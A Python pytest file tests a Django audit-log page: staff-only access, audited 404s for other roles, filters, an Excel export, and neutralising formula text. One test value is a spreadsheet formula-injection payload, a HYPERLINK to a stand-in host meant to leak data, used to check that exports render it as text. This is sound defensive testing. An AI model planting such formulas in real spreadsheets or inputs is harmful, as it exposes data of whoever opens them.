"""The security audit log's page for congress staff and administrators: search, pages, an
Excel export that never carries a live formula and is itself recorded; everyone else gets an
audited 404."""

from __future__ import annotations

import datetime as dt
from io import BytesIO

import pytest
import time_machine
from django.urls import reverse
from openpyxl import load_workbook

from deputies import audit_log
from deputies.models import AuditRecord
from deputies.spreadsheet import neutralise_formula

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://x.example/?leak","点击")'


def record(kind: str = AuditRecord.Kind.LOGIN, *, at: dt.datetime | None = None, **fields: str) -> AuditRecord:
    if at is None:
        return AuditRecord.objects.create(kind=kind, **fields)
    with time_machine.travel(at, tick=False):
        return AuditRecord.objects.create(kind=kind, **fields)


def listed(response) -> list[AuditRecord]:
    return list(response.context["page"].object_list)


def test_staff_see_the_newest_records_first_fifty_a_page(client, staff):
    client.force_login(staff)  # itself recorded, as the newest
    for n in range(52):
        record(username=f"user{n:02d}", at=dt.datetime(2026, 3, 1, 8, n, tzinfo=dt.UTC))
    first = client.get(reverse("audit:records"))
    assert first.status_code == 200
    assert [r.username for r in listed(first)][:3] == ["staff", "user51", "user50"]
    assert len(listed(first)) == 50
    second = client.get(reverse("audit:records"), {"page": 2})
    assert [r.username for r in listed(second)] == ["user02", "user01", "user00"]


def test_an_administrator_sees_the_page_too(client, admin_user):
    client.force_login(admin_user)
    assert client.get(reverse("audit:records")).status_code == 200


def test_the_filters_narrow_by_who_kind_days_and_text(client, staff, deputy):
    deputy.user.full_name = "王建国"
    deputy.user.save()
    mine = record(user=deputy.user, username="deputy", at=dt.datetime(2026, 3, 2, 1, 0, tzinfo=dt.UTC))
    refused = record(
        AuditRecord.Kind.ACCESS_REFUSED,
        username="deputy",
        path="/reports/dashboard/",
        detail="reports view_dashboard",
        at=dt.datetime(2026, 3, 3, 15, 59, tzinfo=dt.UTC),  # 23:59 on 3 March in Shanghai
    )
    other = record(username="li", at=dt.datetime(2026, 3, 3, 16, 0, tzinfo=dt.UTC))  # 4 March in Shanghai
    client.force_login(staff)

    def found(**query: str) -> set[AuditRecord]:
        return set(listed(client.get(reverse("audit:records"), query)))

    assert found(who="王建") == {mine}
    assert found(who="deputy") == {mine, refused}
    assert found(kind="access_refused") == {refused}
    assert found(date_from="2026-03-03", date_to="2026-03-03") == {refused}
    assert found(date_from="2026-03-04", date_to="2026-03-31") == {other}
    assert found(text="dashboard") == {refused}
    assert found(text="view_dash") == {refused}


def test_a_reversed_date_range_is_explained_and_not_applied(client, staff):
    record(username="deputy")
    client.force_login(staff)
    response = client.get(reverse("audit:records"), {"date_from": "2026-03-05", "date_to": "2026-03-01"})
    assert "结束日期早于开始日期" in response.content.decode()
    assert len(listed(response)) == 2  # the record and the login: no date applied


@pytest.mark.parametrize("persona", ["deputy", "unit_handler", "leader", "supervision", "committee_member"])
@pytest.mark.parametrize("url_name", ["audit:records", "audit:export"])
def test_anyone_but_staff_gets_a_404_that_is_itself_audited(client, request, persona, url_name):
    user = request.getfixturevalue(persona)
    client.force_login(getattr(user, "user", user))
    assert client.get(reverse(url_name)).status_code == 404
    refusal = AuditRecord.objects.get(kind=AuditRecord.Kind.ACCESS_REFUSED)
    assert refusal.detail.startswith("audit log")


def test_the_navigation_offers_the_page_to_staff_only(client, staff, deputy):
    client.force_login(staff)
    assert reverse("audit:records") in client.get(reverse("home")).content.decode()
    client.force_login(deputy.user)
    assert reverse("audit:records") not in client.get(reverse("home")).content.decode()


# --- the export ---------------------------------------------------------------------------------------


def sheet_rows(response) -> list[tuple]:
    book = load_workbook(BytesIO(response.content))
    return list(book.worksheets[0].iter_rows(values_only=True))


def test_the_export_holds_the_filtered_records_and_is_recorded_with_its_filters(client, staff):
    record(AuditRecord.Kind.LOGIN_FAILED, username="zhang", ip_address="10.0.0.7", path="/accounts/login/")
    record(username="li")
    client.force_login(staff)
    response = client.get(reverse("audit:export"), {"kind": "login_failed"})
    assert response.status_code == 200
    assert response["Content-Disposition"].startswith("attachment;")
    header, *rows = sheet_rows(response)
    assert header == audit_log.EXPORT_HEADERS
    assert [(row[1], row[2], row[4], row[6]) for row in rows] == [("登录失败", "zhang", "10.0.0.7", "/accounts/login/")]
    exported = AuditRecord.objects.get(kind=AuditRecord.Kind.AUDIT_EXPORTED)
    assert (exported.user, exported.detail) == (staff, "1 条记录；kind=login_failed")


def test_a_failed_login_typed_as_a_formula_is_exported_as_text(client, staff):
    client.post(reverse("login"), {"username": FORMULA, "password": "x"})
    assert AuditRecord.objects.filter(username=FORMULA).exists()
    client.force_login(staff)
    response = client.get(reverse("audit:export"), {"kind": "login_failed"})
    cells = load_workbook(BytesIO(response.content)).worksheets[0]["C"]
    (cell,) = [c for c in cells if FORMULA in str(c.value)]
    assert (cell.value, cell.data_type) == ("'" + FORMULA, "s")


def test_an_export_with_bad_filters_or_too_many_records_is_refused_with_the_reason(client, staff, monkeypatch):
    record(username="a")
    record(username="b")
    client.force_login(staff)
    bad = client.get(reverse("audit:export"), {"date_from": "2026-03-05", "date_to": "2026-03-01"}, follow=True)
    assert "未导出" in bad.content.decode()
    monkeypatch.setattr(audit_log, "EXPORT_LIMIT", 1)
    many = client.get(reverse("audit:export"), follow=True)
    assert "请缩小筛选范围" in many.content.decode()
    assert not AuditRecord.objects.filter(kind=AuditRecord.Kind.AUDIT_EXPORTED).exists()


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_text_that_a_spreadsheet_would_run_gets_a_leading_apostrophe(start):
    assert neutralise_formula(f"{start}1+1") == f"'{start}1+1"


@pytest.mark.parametrize("value", ["/accounts/login/", "王建国", "10.0.0.7", "", None, 3, -3])
def test_other_values_are_left_as_they_are(value):
    assert neutralise_formula(value) == value
